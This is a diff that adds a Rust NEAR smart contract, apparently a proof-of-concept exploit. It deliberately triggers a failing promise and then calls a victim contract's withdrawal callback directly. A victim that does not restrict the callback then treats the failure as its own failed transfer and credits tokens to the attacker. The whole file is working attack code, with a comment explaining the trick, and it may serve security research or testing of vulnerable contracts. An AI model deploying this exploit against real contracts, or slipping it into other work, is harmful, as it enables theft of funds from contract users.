@@ -0,0 +1,58 @@
+use near_sdk::borsh::{self, BorshDeserialize, BorshSerialize};
+
+use near_sdk::ext_contract;
+use near_sdk::{env, json_types::U128, near_bindgen, AccountId, Gas, Promise, PromiseError};
+
+pub const TGAS: u64 = 1_000_000_000_000;
+
+#[ext_contract(vulnerable_contract)]
+trait Victim {
+    fn on_withdraw(&mut self, account: AccountId, amount: U128) -> bool;
+}
+
+#[near_bindgen]
+#[derive(BorshDeserialize, BorshSerialize, Default)]
+pub struct Contract {}
+
+#[near_bindgen]
+impl Contract {
+    // Calls the victim's callback after a promise that always fails. The victim takes the
+    // failure for its own failed transfer and credits `amount` to this contract.
+    pub fn exploit(addr: AccountId, amount: U128) -> Promise {
+        Self::ext(env::current_account_id())
+            .with_static_gas(Gas(5 * TGAS))
+            .fail()
+            .then(
+                vulnerable_contract::ext(addr)
+                    .with_static_gas(Gas(10 * TGAS))
+                    .on_withdraw(env::current_account_id(), amount),
+            )
+            .then(
+                Self::ext(env::current_account_id())
+                    .with_static_gas(Gas(5 * TGAS))
+                    .resolve_exploit(),
+            )
+    }
+
+    #[private]
+    pub fn fail(&self) {
+        env::panic_str("Failing on purpose")
+    }
+
+    #[private]
+    pub fn resolve_exploit(
+        &mut self,
+        #[callback_result] result: Result<bool, PromiseError>,
+    ) -> bool {
+        match result {
+            Ok(_) => {
+                env::log_str("Callback reached");
+                true
+            }
+            Err(err) => {
+                env::log_str(&format!("Callback failed: {:?}", err));
+                false
+            }
+        }
+    }
+}